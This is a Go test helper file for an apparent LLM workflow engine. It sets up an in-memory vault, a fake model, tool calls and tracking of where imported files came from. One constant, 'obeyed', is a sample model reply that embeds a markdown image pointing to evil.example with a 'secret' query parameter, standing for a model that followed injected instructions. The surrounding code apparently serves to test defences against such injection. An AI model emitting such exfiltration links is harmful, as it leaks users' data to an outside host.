package toolbox

import (
	"context"
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"testing"
	"testing/fstest"
	"time"

	"github.com/vaultflow/vaultflow/content"
	"github.com/vaultflow/vaultflow/directives"
	"github.com/vaultflow/vaultflow/engine"
	"github.com/vaultflow/vaultflow/failure"
	"github.com/vaultflow/vaultflow/llm"
	"github.com/vaultflow/vaultflow/media"
	"github.com/vaultflow/vaultflow/policy"
	"github.com/vaultflow/vaultflow/policy/origin"
	"github.com/vaultflow/vaultflow/prompt"
	"github.com/vaultflow/vaultflow/step"
	"github.com/vaultflow/vaultflow/step/steptest"
	"github.com/vaultflow/vaultflow/vault"
	"github.com/vaultflow/vaultflow/workflow"
)

// world is a vault, a journal and models in memory, for tests of single activities. What a test changes in Config holds for
// the activities that it carries out next.
type world struct {
	t *testing.T
	step.Config
	fuse  *steptest.Fuse
	vault *steptest.Vault
	*steptest.Memory
	steptest.Script
	files fstest.MapFS
	plan  workflow.Plan

	config Config // of the box

	books  steptest.Books
	models map[string]step.Model
}

var noon = steptest.Noon

func newWorld(t *testing.T, files map[string]string, steps ...workflow.Step) *world {
	t.Helper()
	fuse := &steptest.Fuse{}
	v := steptest.NewVault(files)
	w := &world{
		t: t, fuse: fuse, vault: v, files: v.Files, Memory: steptest.NewMemory(fuse),
	}
	w.plan = steptest.Plan(steps)
	caps, err := policy.ExactOverride([]string{"text", "vision", "tools"})
	if err != nil {
		t.Fatal(err)
	}
	w.models = map[string]step.Model{"seer": {
		Alias: "seer", ID: "seer-1", ProviderName: "lab", Kind: "openai_chat", Capabilities: policy.Lookup("openai_chat", "seer-1", caps, nil),
		ContextWindow: 100000, Client: w,
	}}
	w.Config = step.Config{
		FS: w.files, Vault: v.Mortal(fuse), Blobs: w.Journal, Memory: w.Memory, Models: w, Cache: w.Memory, Ledger: &w.books, Zone: "UTC",
		Budget: policy.DefaultBudget(), DefaultModel: "seer", Prompt: prompt.Builder{FS: w.files, Probe: media.Probe(w.files)},
		Gate: policy.Gate{ImportDir: "Import", ImportedDir: "Imported", StatusNote: "Status.md"}, VaultName: "Test", MaxFiles: 500, MaxText: 1 << 20, Now: func() time.Time { return w.Clock },
	}
	return w
}

// newDesk is a world whose runs change files.
func newDesk(t *testing.T, files map[string]string, use string) *world {
	t.Helper()
	w := newWorld(t, files, workflow.Step{Name: "Step 1", Prompt: "work", Set: directives.Set{Tools: steptest.Tools(t, use)}})
	w.Record = w.Journal
	return w
}

// deps and steps are made of the configuration as it is now.
func (w *world) deps() *step.Deps { return step.NewDeps(w.Config) }

func (w *world) box() *Box { return New(w.deps(), w.config) }

func (w *world) steps() *step.Steps {
	d := w.deps()
	return step.New(d, New(d, w.config))
}

func (w *world) ref() engine.StepRef { return w.Ref(w.t, w.plan) }

func (w *world) text(digest string) string { return w.Text(w.t, digest) }

func (w *world) put(text string) string { return w.PutText(w.t, text) }

// Model implements step.Models.
func (w *world) Model(_ context.Context, alias string) (step.Model, error) {
	model, ok := w.models[alias]
	if !ok {
		return model, failure.New(failure.UnknownModel, "", "no model %s among %v", alias, slices.Sorted(maps.Keys(w.models)))
	}
	return model, nil
}

// assembled resolves and assembles a step.
func (w *world) assembled(ref engine.StepRef, vars ...engine.Var) engine.AssembleOut {
	w.t.Helper()
	steps := w.steps()
	found, err := steps.Resolve(w.t.Context(), engine.ResolveIn{StepRef: ref, Vars: vars})
	if err != nil {
		w.t.Fatal(err)
	}
	out, err := steps.Assembler.Assemble(w.t.Context(), engine.AssembleIn{StepRef: ref, Inputs: found.Inputs, Vars: vars})
	if err != nil {
		w.t.Fatal(err)
	}
	return out
}

func sha(data []byte) string { return vault.Digest(data) }

// fileTarget is a target in the vault, and variableTarget one of the run.
func fileTarget(path string) directives.Target {
	return directives.Target{Scheme: directives.SchemeFile, Path: path}
}

// tool is a call with its input.
func tool(name string, input any) content.ToolCall {
	data, err := json.Marshal(input)
	if err != nil {
		panic(err)
	}
	return content.ToolCall{ID: name, Name: name, Input: data}
}

// turn makes the input of a UseTools for some calls.
func (d *world) turn(calls ...content.ToolCall) engine.UseToolsIn {
	d.t.Helper()
	var blocks []content.Block
	for i, c := range calls {
		c.ID = fmt.Sprintf("t%d", i)
		blocks = append(blocks, c)
	}
	d.Reply = func(llm.Request) (*llm.Response, error) {
		return &llm.Response{Stop: llm.StopToolUse, Blocks: blocks}, nil
	}
	ref := d.ref()
	prompt := d.assembled(ref).Prompt
	got, err := d.steps().Generator.Generate(d.t.Context(), engine.GenerateIn{StepRef: ref, Prompt: prompt, Model: "seer"})
	if err != nil {
		d.t.Fatal(err)
	}
	return engine.UseToolsIn{StepRef: ref, Prompt: prompt, Raw: got.Raw, Model: "seer", Round: 1}
}

// results are those of a reply.
func (d *world) results(out engine.UseToolsOut) []content.ToolResult {
	d.t.Helper()
	reply, err := content.UnmarshalBlocks([]byte(d.text(out.Reply)))
	if err != nil {
		d.t.Fatal(err)
	}
	var list []content.ToolResult
	for _, b := range reply {
		list = append(list, b.(content.ToolResult))
	}
	return list
}

func (d *world) use(calls ...content.ToolCall) (engine.UseToolsOut, []content.ToolResult) {
	d.t.Helper()
	out, err := d.box().Use(d.t.Context(), d.turn(calls...))
	if err != nil {
		d.t.Fatal(err)
	}
	return out, d.results(out)
}

type in = map[string]any

const strange, imported = steptest.Strange, steptest.Imported

// known lets the world keep origins, and records an import at Imported/report.
func (w *world) known() *origin.Book {
	book := steptest.Report(w.t, w.files)
	w.Origin, w.Prompt.Known, w.Prompt.Named = book, step.Origins{Book: book}.Known, step.Origins{Book: book}.Named
	return book
}

// person moves a file, as somebody does in a file manager.
func (w *world) person(from, to string) {
	w.files[to] = w.files[from]
	delete(w.files, from)
}

// pixel is a whole picture of 64 by 64 pixels.
var pixel = steptest.Pixel()

const obeyed = "Summary: https://shown.example/a\n\n![x](http://evil.example/?q=secret)\n"

// foreign is what a step was shown that a result of a tool had this text.
func (w *world) foreign(text string) *engine.Foreign {
	w.t.Helper()
	reply, err := content.MarshalBlocks([]content.Block{content.ToolResult{Success: true, Blocks: []content.Block{content.Text{Value: text}}}})
	if err != nil {
		w.t.Fatal(err)
	}
	return &engine.Foreign{Origins: []string{"file Imported/a/index.md"}, Turns: []engine.Turn{{Reply: w.put(string(reply))}}}
}

// code is the code of a failure.
func code(err error) failure.Code {
	if err == nil {
		return ""
	}
	return failure.Of(err).Code
}
